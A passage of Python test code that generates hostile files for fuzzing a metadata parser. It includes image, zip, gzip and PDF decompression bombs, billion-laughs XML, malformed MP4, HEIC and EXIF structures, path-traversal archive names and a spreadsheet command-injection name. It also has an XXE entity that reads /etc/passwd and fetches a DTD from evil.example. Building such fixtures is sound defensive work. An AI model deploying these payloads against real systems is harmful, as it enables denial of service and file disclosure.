    Make/Model/Software, XMP dc:title/creator, PDF Title/Author, DOCX/ODT creator ...).
    """
    kw = {} if text is None else {"text": text}
    return {
        "seed.jpg": jpeg_seed(**kw),
        "seed.tif": tiff_seed(**kw),
        "seed.png": png_seed(**kw),
        "seed.webp": webp_seed(**kw),
        "seed.gif": gif_seed(**kw),
        "seed.heic": heic_seed(**kw),
        "seed.mp4": mp4_seed(**kw),
        "seed.mov": mov_seed(**kw),
        "seed.pdf": pdf_seed(**kw),
        "seed.docx": docx_seed(**kw),
        "seed.odt": odt_seed(**kw),
        "seed.xmp": xmp_packet(*((text, text) if text is not None else ())),
        "seed_chat.txt": chat_seed(**kw),
        "seed_result.json": telegram_seed(**kw),
        "seed.jpg.supplemental-metadata.json": takeout_seed(**kw),
        "seed.zip": zip_seed(**kw),
        "seed.tar.gz": tar_seed(**kw),
    }


# --- Damage ------------------------------------------------------------------------------


def damaged_variants(name: str, data: bytes, flips: int = 6) -> Iterator[tuple[str, bytes]]:
    """Truncated and bit-flipped versions of ``data`` (deterministic for a name)."""
    stem, _, ext = name.rpartition(".")
    n = len(data)
    cuts = sorted({1, 2, 4, 8, 12, 16, 32, n // 8, n // 4, n // 2, (3 * n) // 4, n - 16, n - 2, n - 1})
    for cut in cuts:
        if 0 < cut < n:
            yield f"{stem}-cut{cut}.{ext}", data[:cut]
    rng = random.Random(f"{name}:{n}")
    for i in range(flips):
        out = bytearray(data)
        # Flip bits in the header region more often: that is where parsers decide.
        for _ in range(1 + i):
            pos = rng.randrange(min(n, 512)) if rng.random() < 0.6 else rng.randrange(n)
            out[pos] ^= 1 << rng.randrange(8)
        yield f"{stem}-flip{i}.{ext}", bytes(out)
    # 32-bit fields overwritten with extreme values at a few offsets.
    for i, value in enumerate((0, 0xFFFFFFFF, 0x7FFFFFFF, 0x80000000)):
        out = bytearray(data)
        pos = rng.randrange(max(1, n - 4))
        out[pos : pos + 4] = struct.pack(">I", value)
        yield f"{stem}-int{i}.{ext}", bytes(out)


# --- Decompression bombs (images that declare huge dimensions) -------------------------------


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG whose IHDR declares ``width`` x ``height`` (10^10 pixels) over a tiny IDAT."""
    out = b"\x89PNG\r\n\x1a\n" + b.png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    stream, _, _ = deflate_bomb(b"", b"\x00", 64)
    idat = b"\x78\xda" + stream + struct.pack(">I", 1)  # zlib wrapper; adler is wrong: never checked before
    return out + b.png_chunk(b"IDAT", idat) + b.png_chunk(b"IEND", b"")


def gif_bomb() -> bytes:
    """A GIF whose screen and frame declare 65535 x 65535."""
    head = b"GIF89a" + struct.pack("<HHBBB", 0xFFFF, 0xFFFF, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 0xFFFF, 0xFFFF, 0) + b"\x02\x02\x44\x01\x00"
    return head + frame + b"\x3b"


def tiff_bomb() -> bytes:
    """A TIFF declaring 100000 x 100000 RGB pixels in one tiny strip."""
    fields = [
        b.Field(0x0100, b.LONG, [100_000]),
        b.Field(0x0101, b.LONG, [100_000]),
        b.Field(0x0102, b.SHORT, [8, 8, 8]),
        b.Field(0x0103, b.SHORT, [1]),
        b.Field(0x0106, b.SHORT, [2]),
        b.Field(0x0111, b.LONG, [8]),
        b.Field(0x0115, b.SHORT, [3]),
        b.Field(0x0116, b.LONG, [100_000]),
        b.Field(0x0117, b.LONG, [0xFFFFFFF0]),
    ]
    return b.tiff_bytes(fields, strip=b"\x00" * 16)


def jpeg_bomb() -> bytes:
    """A JPEG whose SOF0 declares 65535 x 65535."""
    data = bytearray(b.jpeg_bytes(size=(8, 8)))
    i = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, i + 5, 0xFFFF, 0xFFFF)
    return bytes(data)


def webp_bomb() -> bytes:
    """A WebP (VP8X) whose canvas is 16777216 x 16777216."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + b"\xff\xff\xff" + b"\xff\xff\xff"
    vp8l = b"VP8L" + struct.pack("<I", 5) + b"\x2f" + struct.pack("<I", 0xFFFFFFFF) + b"\x00"
    body = b"WEBP" + vp8x + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


def image_bombs() -> dict[str, bytes]:
    return {
        "bomb-ihdr-100000x100000.png": png_bomb(),
        "bomb-65535x65535.gif": gif_bomb(),
        "bomb-100000x100000.tif": tiff_bomb(),
        "bomb-65535x65535.jpg": jpeg_bomb(),
        "bomb-canvas.webp": webp_bomb(),
    }


# --- Archives ------------------------------------------------------------------------------


def zip_bomb_docx(mib: int = 2048) -> bytes:
    """A DOCX whose core.xml, app.xml and document.xml each inflate to ``mib`` MiB."""
    core_prefix = core_xml()[: core_xml().index(b"<dc:title>")] + b"<dc:title>"
    return raw_zip(
        [
            deflated("[Content_Types].xml", CONTENT_TYPES),
            deflated("_rels/.rels", RELS),
            bomb_member("word/document.xml", DOCUMENT[:200], b" ", mib),
            bomb_member("docProps/core.xml", core_prefix, b"A", mib),
            bomb_member("docProps/app.xml", b"", b"\x00", mib),
        ]
    )


def zip_bomb_odt(mib: int = 2048) -> bytes:
    """An ODT whose meta.xml inflates to ``mib`` MiB."""
    return raw_zip(
        [
            stored("mimetype", ODT_MIME),
            deflated("META-INF/manifest.xml", MANIFEST),
            bomb_member("content.xml", CONTENT[:120], b" ", mib),
            bomb_member("meta.xml", meta_xml()[:300], b" ", mib),
        ]
    )


def lying_sizes_docx() -> bytes:
    """A DOCX whose core.xml declares 4 GiB - 1 inflated, and whose CRCs are wrong."""
    members = docx_members()
    core = members[3]
    members[3] = RawMember(core.name, core.data, core.method, crc=0xDEADBEEF, size=0xFFFFFFFF)
    return raw_zip(members)


def many_members_docx(n: int = 100_001) -> bytes:
    """A DOCX with ``n`` extra empty stored members (built directly: well under a second)."""
    members = docx_members()
    empty = [RawMember(f"junk/{i:06d}.xml", b"", zipfile.ZIP_STORED, 0, 0) for i in range(n)]
    return raw_zip([*members[:3], *empty, *members[3:]])


def nested_zip(depth: int = 12) -> bytes:
    """A DOCX holding a zip holding a zip ... ``depth`` levels, each with a core.xml."""
    inner = raw_zip([deflated("docProps/core.xml", core_xml("innermost"))])
    for i in range(depth):
        inner = raw_zip([stored(f"level{i}.zip", inner), deflated("docProps/core.xml", core_xml(f"level {i}"))])
    members = docx_members()
    return raw_zip([*members, stored("word/embeddings/nested.zip", inner), stored("docProps/custom.zip", inner)])


def zip_path_tricks() -> bytes:
    """A DOCX with hostile member names (traversal, absolute, NUL, duplicates, very long)."""
    members = docx_members()
    extra = [
        stored("../../../../tmp/evidence-pwned", b"x"),
        stored("/etc/passwd", b"x"),
        stored("C:\\Windows\\evil.xml", b"x"),
        stored("docProps/core.xml", core_xml("duplicate core")),
        stored("a" * 4000 + ".xml", b"x"),
        stored("\x1b[31mred\x1b[0m.xml", b"x"),
    ]
    return raw_zip([*members, *extra])


def archive_attacks() -> dict[str, bytes]:
    return {
        "zipbomb-2GiB-members.docx": zip_bomb_docx(),
        "zipbomb-meta.odt": zip_bomb_odt(),
        "lying-sizes.docx": lying_sizes_docx(),
        "many-members-100001.docx": many_members_docx(),
        "nested-12-levels.docx": nested_zip(),
        "member-name-tricks.docx": zip_path_tricks(),
        "zipbomb-2GiB.zip": raw_zip([bomb_member("bomb.bin"), stored("after.txt", b"x")]),
        "zipbomb-lying-sizes.zip": raw_zip([lying_bomb_member("small.txt", 2048), stored("after.txt", b"x")]),
        "overlapping-members.zip": overlapping_zip(),
        "many-members-100001.zip": raw_zip(
            RawMember(f"junk/{i:06d}.txt", b"", zipfile.ZIP_STORED, 0, 0) for i in range(100_001)
        ),
        "member-name-tricks.zip": raw_zip(
            [
                stored("../../../../tmp/evidence-pwned", b"x"),
                stored("/etc/passwd", b"x"),
                stored("C:\\Windows\\evil.dll", b"x"),
                stored("a.txt", b"1"),
                stored("a.txt", b"2"),
                stored("a" * 4000 + ".txt", b"x"),
                stored("\x1b[31mred\x1b[0m=cmd|' /C calc'!A0.txt", b"x"),
            ]
        ),
    }


def gzip_bomb(mib: int = 2048) -> bytes:
    """A gzip file that inflates to ``mib`` MiB of one letter (no TAR: one compressed file)."""
    stream, crc, size = deflate_bomb(b"", b"A", mib)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + stream + struct.pack("<II", crc, size & 0xFFFFFFFF)


def tar_attacks() -> dict[str, bytes]:
    import tarfile

    pax = io.BytesIO()
    with tarfile.open(fileobj=pax, mode="w", format=tarfile.PAX_FORMAT) as t:
        info = tarfile.TarInfo("a" * 200)
        info.size = 1
        t.addfile(info, io.BytesIO(b"z"))
    header = bytearray(pax.getvalue())
    header[124:136] = b"77777777777\x00"  # the extended header declares 8 GiB
    header[148:156] = b" " * 8
    header[148:156] = f"{sum(header[:512]):06o}\x00 ".encode()
    many = io.BytesIO()
    with tarfile.open(fileobj=many, mode="w", format=tarfile.GNU_FORMAT) as t:
        for i in range(50_001):  # one more than the archive reader lists of a TAR
            t.addfile(tarfile.TarInfo(f"junk/{i:06d}"))
    return {
        "gzip-bomb-2GiB.gz": gzip_bomb(),
        "pax-header-8GiB.tar": bytes(header),
        "many-members-50001.tar": many.getvalue(),
    }


def lying_bomb_member(name: str, mib: int) -> RawMember:
    """A member that inflates to ``mib`` MiB while its entry says 100 bytes."""
    bomb = bomb_member(name, b"", b"A", mib)
    return RawMember(bomb.name, bomb.data, bomb.method, bomb.crc, 100)


def overlapping_zip(n: int = 2000) -> bytes:
    """An overlapping zip bomb's structure: ``n`` central directory entries, each naming
    the one local header, whose member inflates to 64 MiB while its entries say 100 bytes
    (a reader that trusts neither stops at 100)."""
    one = raw_zip([lying_bomb_member("kernel.txt", 64)])
    cd, eocd = one.index(b"PK\x01\x02"), one.index(b"PK\x05\x06")
    entry = one[cd:eocd]
    tail = bytearray(one[eocd:])
    struct.pack_into("<HHI", tail, 8, n, n, n * len(entry))
    return one[:cd] + entry * n + bytes(tail)


# --- XML: entity expansion and external entities -------------------------------------------

BILLION_LAUGHS_DTD = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)
BILLION_LAUGHS_REF = "&lol9;"
XXE_DTD = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>'
XXE_REF = "&xxe;"


def _with_dtd(xml: bytes, dtd: str, ref: str) -> bytes:
    """Insert a DTD after the XML declaration (or at the start) and a reference in the text."""
    text = xml.decode("utf-8")
    if text.startswith("<?xml"):
        end = text.index("?>") + 2
        text = text[:end] + dtd + text[end:]
    else:
        text = dtd + text
    for marker in ("Seed title", "Seed creator"):
        text = text.replace(marker, ref)
    return text.encode("utf-8")


def xml_attacks() -> dict[str, bytes]:
    """Billion laughs and XXE (file:///etc/passwd) in XMP (sidecar, JPEG, PNG), DOCX core.xml
    and ODF meta.xml; plus 100,000-deep element nesting."""
    out: dict[str, bytes] = {}
    deep = ("<a>" * 100_000 + "</a>" * 100_000).encode()
    for tag, dtd, ref in (("billion-laughs", BILLION_LAUGHS_DTD, BILLION_LAUGHS_REF), ("xxe", XXE_DTD, XXE_REF)):
        xmp = _with_dtd(xmp_packet(), dtd, ref)
        out[f"{tag}.xmp"] = xmp
        out[f"{tag}-xmp.jpg"] = jpeg_seed(xmp=xmp)
        out[f"{tag}-xmp.png"] = b.png_bytes(chunks=[(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp)])
        out[f"{tag}-core.docx"] = raw_zip(docx_members(core=_with_dtd(core_xml(), dtd, ref)))
        out[f"{tag}-app.docx"] = raw_zip(docx_members(app=_with_dtd(app_xml("Seed title"), dtd, ref)))
        out[f"{tag}-meta.odt"] = raw_zip(odt_members(meta=_with_dtd(meta_xml(), dtd, ref)))
        out[f"{tag}-xmp.pdf"] = pdf_from_objects(
            [b"<< /Type /Catalog /Metadata 2 0 R >>", pdf_stream(b"/Type /Metadata /Subtype /XML", xmp)]
        )
    out["deep-100000.xmp"] = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + deep + b"</x:xmpmeta>"
    out["deep-core.docx"] = raw_zip(docx_members(core=deep))
    out["deep-meta.odt"] = raw_zip(odt_members(meta=deep))
    return out


# --- ISO-BMFF (MP4/MOV/HEIC) box tricks ------------------------------------------------------


def nested_boxes(kind: bytes, depth: int, *, full: bool = False) -> bytes:
    """``depth`` boxes of ``kind``, each the only child of the one before (built in one pass)."""
    head = 12 if full else 8
    return b"".join(
        struct.pack(">I", head * (depth - i)) + kind + (b"\x00\x00\x00\x00" if full else b"") for i in range(depth)
    )


def bmff_attacks() -> dict[str, bytes]:
    ftyp = box(b"ftyp", b"isom" + struct.pack(">I", 512) + b"isommp41")
    heic_ftyp = box(b"ftyp", b"heic" + struct.pack(">I", 0) + b"mif1heic")
    out: dict[str, bytes] = {}
    # size 1 + largesize: absurd (2**64-1), zero (a reader that adds 0 loops), smaller than the header.
    for name, large in (("largesize-max", 2**64 - 1), ("largesize-0", 0), ("largesize-8", 8), ("largesize-15", 15)):
        out[f"{name}.mp4"] = ftyp + struct.pack(">I", 1) + b"moov" + struct.pack(">Q", large) + _mvhd()
    # 32-bit sizes 0 ("to the end"), 1..7 (smaller than a header: no progress), 2**32-1.
    for size in (0, 2, 4, 7, 0xFFFFFFFF):
        out[f"size-{size}.mp4"] = ftyp + struct.pack(">I", size) + b"moov" + _mvhd() + _trak()
    # A child larger than its parent, and a parent larger than the file.
    inner = struct.pack(">I", 0x7FFFFFFF) + b"trak" + _trak()[8:]
    out["child-overflows.mp4"] = ftyp + box(b"moov", _mvhd() + inner)
    # 100,000-deep nesting of containers (moov/trak/mdia ... and meta in meta, udta in udta).
    for kind, name in ((b"moov", "deep-moov"), (b"trak", "deep-trak"), (b"udta", "deep-udta")):
        out[f"{name}-100000.mp4"] = ftyp + nested_boxes(kind, 100_000)
    out["deep-meta-50000.heic"] = heic_ftyp + nested_boxes(b"meta", 50_000, full=True)
    # A flat million boxes (8 MB of 'free' headers): the box budget must stop the walk.
    out["million-boxes.mp4"] = ftyp + box(b"free") * 1_000_000
    # A keys/ilst with absurd counts and index pointing nowhere.
    keys = full_box(b"keys", struct.pack(">I", 0xFFFFFFFF) + box(b"mdta", b"x"))
    ilst = box(b"ilst", struct.pack(">I", 24) + struct.pack(">I", 0xFFFFFFFF) + box(b"data", struct.pack(">II", 1, 0)))
    out["keys-count.mp4"] = ftyp + box(b"moov", _mvhd() + full_box(b"meta", keys + ilst))
    # stco with 2**32-1 entries, stsd with 2**32-1 entries.
    stbl = box(
        b"stbl",
        full_box(b"stsd", struct.pack(">I", 0xFFFFFFFF))
        + full_box(b"stco", struct.pack(">I", 0xFFFFFFFF) + b"\x00" * 8),
    )
    out["table-counts.mp4"] = ftyp + box(b"moov", _mvhd() + box(b"trak", box(b"mdia", box(b"minf", stbl))))
    # HEIF: iloc extents past EOF and of 2**64-1 bytes; item references that form a cycle;
    # an Exif item whose TIFF offset is absurd; 65535 items declared.
    hdlr = full_box(b"hdlr", b"\x00" * 4 + b"pict" + b"\x00" * 12 + b"\x00")
    infe = full_box(b"infe", struct.pack(">HH", 1, 0) + b"Exif\x00", version=2)
    iinf = full_box(b"iinf", struct.pack(">H", 0xFFFF) + infe)
    iloc = full_box(
        b"iloc",
        bytes([0x88, 0x00])
        + struct.pack(">H", 2)
        + struct.pack(">HHHQQ", 1, 0, 1, 2**64 - 16, 2**64 - 1)
        + struct.pack(">HHH", 2, 0, 0xFFFF),
        version=0,
    )
    iref = full_box(
        b"iref",
        box(b"dimg", struct.pack(">HHH", 1, 1, 2))
        + box(b"dimg", struct.pack(">HHH", 2, 1, 1))
        + box(b"thmb", struct.pack(">HH", 1, 0xFFFF)),
    )
    out["iloc-absurd.heic"] = heic_ftyp + full_box(b"meta", hdlr + iinf + iloc + iref)
    exif_item = struct.pack(">I", 0xFFFFFFF0) + b"Exif\x00\x00II*\x00"
    seed = heic_seed()
    i = seed.rfind(b"\x00\x00\x00\x00II*\x00")
    if i > 0:
        out["exif-offset.heic"] = seed[:i] + struct.pack(">I", 0xFFFFFFF0) + seed[i + 4 :]
    out["exif-item-tiny.heic"] = heic_ftyp + box(b"mdat", exif_item)
    # Sample/chunk tables pointing past EOF and a moov after a huge declared mdat.
    out["mdat-huge.mov"] = (
        box(b"ftyp", b"qt  \x00\x00\x00\x00qt  ")
        + struct.pack(">I", 1)
        + b"mdat"
        + struct.pack(">Q", 2**62)
        + b"\x00" * 32
    )
    return out


# --- EXIF / TIFF structure attacks ----------------------------------------------------------


def exif_attacks() -> dict[str, bytes]:
    """IFD loops, absurd counts and offsets past the end, in JPEG, TIFF, PNG and WebP."""
    base = b.exif_tiff(make="LoopCam", model="M", date_original="2019:05:01 13:45:10", gps=b.gps_fields(1.0, 2.0))
    tiffs: dict[str, bytes] = {
        "ifd0-next-self": b.set_next_ifd(base, b.ifd_offset(base)),
        "ifd0-next-8": b.set_next_ifd(base, 8),
        "exif-points-ifd0": b.patch_entry(base, "ExifIFD", value=b.ifd_offset(base)),
        "gps-points-self": b.patch_entry(base, "GPSIFD", value=b.ifd_offset(base, "gps")),
        "exif-next-ifd0": b.set_next_ifd(base, b.ifd_offset(base), "exif"),
        "count-max-ascii": b.patch_entry(base, "Make", count=0xFFFFFFFF),
        "count-max-long": b.patch_entry(base, "ExifIFD", type=b.LONG, count=0xFFFFFFFF),
        "count-max-rational": b.patch_entry(base, "GPSLatitude", "gps", count=0xFFFFFFFF),
        "offset-past-eof": b.patch_entry(base, "Make", value=0xFFFFFFF0),
        "ifd0-past-eof": b.set_ifd0_offset(base, 0xFFFFFF00),
        "exif-past-eof": b.patch_entry(base, "ExifIFD", value=0x7FFFFFFF),
        "entries-65535": b.set_entry_count(base, 0xFFFF),
        "type-invalid": b.patch_entry(base, "Make", type=0xFFFF),
        "type-zero": b.patch_entry(base, "Make", type=0),
        "header-only": base[:8],
    }
    # A chain of 10,000 IFDs each pointing to the next (a long but finite chain).
    bo = "<"
    chain = bytearray(b"II*\x00" + struct.pack("<I", 8))
    for i in range(10_000):
        at = len(chain)
        chain += (
            struct.pack(f"{bo}H", 1)
            + struct.pack(f"{bo}HHII", 0x010F, 2, 4, 0x41414141)
            + struct.pack(f"{bo}I", at + 18 if i < 9_999 else 0)
        )
    tiffs["chain-10000"] = bytes(chain)
    out: dict[str, bytes] = {}
    for name, t in tiffs.items():
        out[f"exif-{name}.jpg"] = b.jpeg_bytes(t) if len(t) < 0xFFF0 else b.jpeg_bytes(t[:0xFFF0])
        out[f"exif-{name}.png"] = b.png_bytes(exif=t)
        out[f"exif-{name}.tif"] = t
    try:
        out["exif-ifd0-next-self.webp"] = b.webp_bytes(tiffs["ifd0-next-self"])
        out["exif-count-max-ascii.webp"] = b.webp_bytes(tiffs["count-max-ascii"])
    except RuntimeError:  # Pillow without WebP
        pass
    # JPEG segments with lengths 0 and 1 (no progress), and an APP1 longer than the file.
    jpg = b.jpeg_bytes()
    out["jpeg-seglen-0.jpg"] = jpg[:2] + b"\xff\xe1\x00\x00" + jpg[2:]
    out["jpeg-seglen-1.jpg"] = jpg[:2] + b"\xff\xe1\x00\x01" + jpg[2:]
    out["jpeg-app1-long.jpg"] = jpg[:2] + b"\xff\xe1\xff\xffExif\x00\x00II*\x00"
    out["jpeg-many-markers.jpg"] = jpg[:2] + b"\xff\xe2\x00\x02" * 50_000 + jpg[2:]
    out["jpeg-fill-bytes.jpg"] = jpg[:2] + b"\xff" * 100_000 + jpg[2:]
    return out


# --- PDF structure attacks -------------------------------------------------------------------


def pdf_attacks() -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    seed = pdf_seed()
    # /Prev pointing to itself (and two sections pointing at each other).
    xref_at = int(seed.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    out["prev-self.pdf"] = seed.replace(b"/Size 7", f"/Size 7 /Prev {xref_at}".encode(), 1)
    out["startxref-past-eof.pdf"] = seed.replace(f"startxref\n{xref_at}".encode(), b"startxref\n99999999999")
    out["startxref-negative.pdf"] = seed.replace(f"startxref\n{xref_at}".encode(), b"startxref\n-5")
    # Reference cycles: Info -> 7 -> 8 -> 7; Root/Pages whose kids contain themselves.
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
        b"<< /Type /Page /Parent 3 0 R >>",
        b"<< /Title 5 0 R /Author 4 0 R >>",
        b"6 0 R",
        b"5 0 R",
    ]
    out["ref-cycles.pdf"] = pdf_from_objects(objects, info=4)
    # Deep nesting and huge declared lengths.
    out["deep-arrays.pdf"] = pdf_from_objects([b"<< /Type /Catalog /X " + b"[" * 100_000 + b"]" * 100_000 + b" >>"])
    out["deep-dicts.pdf"] = pdf_from_objects([b"<< /Type /Catalog /X " + b"<< /A " * 50_000 + b">> " * 50_000 + b">>"])
    out["length-huge.pdf"] = pdf_from_objects(
        [b"<< /Type /Catalog /Metadata 2 0 R >>", b"<< /Length 9223372036854775807 >>\nstream\nabc\nendstream"]
    )
    out["length-negative.pdf"] = pdf_from_objects(
        [b"<< /Type /Catalog /Metadata 2 0 R >>", b"<< /Length -100 >>\nstream\nabc\nendstream"]
    )
    # A Flate stream that inflates to 1 GiB, as metadata and as an object stream.
    stream, _, _ = deflate_bomb(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>", b" ", 1024)
    zstream = b"\x78\xda" + stream + b"\x00\x00\x00\x00"
    out["flate-bomb-metadata.pdf"] = pdf_from_objects(
        [
            b"<< /Type /Catalog /Metadata 2 0 R >>",
            pdf_stream(b"/Type /Metadata /Subtype /XML /Filter /FlateDecode", zstream),
        ]
    )
    out["flate-bomb-objstm.pdf"] = pdf_from_objects(
        [b"<< /Type /Catalog >>", pdf_stream(b"/Type /ObjStm /N 100000 /First 10 /Filter /FlateDecode", zstream)]
    )
    # Filters chained 1000 times; an xref stream with absurd /W and /Size.
    out["filter-chain.pdf"] = pdf_from_objects(
        [b"<< /Type /Catalog /Metadata 2 0 R >>", pdf_stream(b"/Filter [" + b"/FlateDecode " * 1000 + b"]", b"x")]
    )
    xref_stream = pdf_stream(b"/Type /XRef /Size 4294967295 /W [8 8 8] /Index [0 4294967295]", b"\x00" * 48)
    body = b"%PDF-1.7\n1 0 obj\n" + xref_stream + b"\nendobj\n"
    out["xref-stream-absurd.pdf"] = body + b"startxref\n9\n%%EOF\n"
    # Thousands of incremental updates; a header followed by garbage.
    many = bytearray(seed)
    for _ in range(2000):
        prev = int(bytes(many).rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
        at = len(many)
        section = "xref\n0 1\n0000000000 65535 f \ntrailer\n"
        many += f"{section}<< /Size 7 /Root 1 0 R /Prev {prev} >>\nstartxref\n{at}\n%%EOF\n".encode()
    out["updates-2000.pdf"] = bytes(many)
    out["header-garbage.pdf"] = b"%PDF-1.4\n" + bytes(range(256)) * 64
    return out


# --- Small oddities --------------------------------------------------------------------------


def tiny_files() -> dict[str, bytes]:
    """Empty and one-byte files under every extension, and magic numbers alone."""
    out: dict[str, bytes] = {"empty": b"", "empty.jpg": b""}
    for name, data in seed_files().items():
        ext = name.rsplit(".", 1)[1]
        out[f"one-byte.{ext}"] = data[:1]
        out[f"magic-only.{ext}"] = data[:12]
    return out


def all_attacks() -> dict[str, bytes]:
    """Every hostile file of this module by name (except the sparse file and special files)."""
    out: dict[str, bytes] = {}
    for group in (
        image_bombs,
        archive_attacks,
        tar_attacks,
        xml_attacks,
        bmff_attacks,
        exif_attacks,
        pdf_attacks,
        tiny_files,
    ):
        out.update(group())
    out.update(all_damaged())
    return out


def all_damaged() -> dict[str, bytes]:
    """Truncated and bit-flipped versions of every seed."""
    out: dict[str, bytes] = {}
    for name, data in seed_files().items():
        out.update(damaged_variants(name, data))
    return out


def write_tree(folder: Path, files: dict[str, bytes]) -> list[Path]:
    """Write name -> bytes under ``folder`` (names may contain ``/``); return the paths."""
    paths = []
    for name, data in files.items():
        p = folder / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        paths.append(p)
    return paths
